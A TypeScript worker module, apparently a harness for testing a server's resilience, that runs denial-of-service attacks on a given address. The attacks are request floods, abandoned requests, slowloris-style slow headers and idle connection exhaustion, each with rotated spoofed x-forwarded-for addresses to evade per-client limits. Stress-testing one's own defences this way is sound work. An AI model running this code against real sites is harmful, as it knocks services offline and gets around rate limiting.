import { request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import autocannon from 'autocannon'

/** An attack on a site. */
export interface Attack {
  address: string
  connections: number
  seconds: number
  /** Addresses of the attackers, as reported by a proxy; used in rotation. */
  from: string[]
  /**
   * `ask`: each connection repeats requests; `give-up`: each requests once and disconnects; the others keep
   * connections open.
   */
  how: 'ask' | 'give-up' | 'slow-headers' | 'idle'
  /** Requested in rotation, by any free connection. */
  paths: string[]
}

/** Result of an attack. */
export interface Attacked {
  /** Number of responses by status. */
  statuses: Record<string, number>
  seconds: number
}

const leaveBodies = (client: unknown) => {
  ;(client as { pipelinedRequests: { addBody: () => void } }).pipelinedRequests.addBody = () => undefined
}

async function ask({ address, connections, seconds, paths, from }: Attack): Promise<Attacked> {
  let turn = 0
  const setupRequest = (asked: object) => {
    const i = turn++
    return { ...asked, path: paths[i % paths.length] as string, headers: { 'x-forwarded-for': from[i % from.length] } }
  }
  const { statusCodeStats = {}, duration } = await autocannon({
    url: address,
    requests: [{ setupRequest }],
    connections,
    duration: seconds,
    timeout: 60,
    setupClient: leaveBodies,
  })
  const statuses = Object.entries(statusCodeStats).map(([status, { count = 0 }]) => [status, count] as const)
  return { statuses: Object.fromEntries(statuses), seconds: duration }
}

/** Sends all requests concurrently, and disconnects before any response. */
async function giveUp({ address, seconds, paths, from }: Attack): Promise<Attacked> {
  for (const [i, path] of paths.entries()) {
    const asked = request(address + path, { agent: false, headers: { 'x-forwarded-for': from[i % from.length] } })
    asked.on('error', () => undefined).end()
    setTimeout(() => asked.destroy(), 300)
  }
  await wait(seconds * 1000)
  return { statuses: {}, seconds }
}

/** Opens connections that never complete a request; closed ones are reopened. */
async function keepOpen({ address, connections, seconds, how }: Attack): Promise<Attacked> {
  const { hostname, port } = new URL(address)
  const open = new Set<Socket>()
  let over = false
  let closed = 0
  const begin = () => {
    const socket = connect(Number(port), hostname, () => {
      if (how === 'slow-headers') socket.write('GET / HTTP/1.1\r\nhost: site\r\n')
    })
    open.add(socket)
    socket.on('error', () => undefined)
    socket.on('close', () => {
      open.delete(socket)
      closed++
      if (!over) setTimeout(begin, 100)
    })
  }
  for (let i = 0; i < connections; i++) {
    begin()
    if (i % 50 === 0) await wait(5)
  }
  const began = performance.now()
  while (performance.now() - began < seconds * 1000) {
    await wait(1000)
    if (how === 'slow-headers') for (const socket of open) socket.write('x-more: 1\r\n')
  }
  over = true
  for (const socket of open) socket.destroy()
  return { statuses: { closed }, seconds }
}

process.on('message', async ({ attack }: { attack?: Attack }) => {
  if (!attack) return
  const ways = { ask, 'give-up': giveUp, 'slow-headers': keepOpen, idle: keepOpen }
  process.send?.({ attacked: await ways[attack.how](attack) })
})
process.channel?.ref()
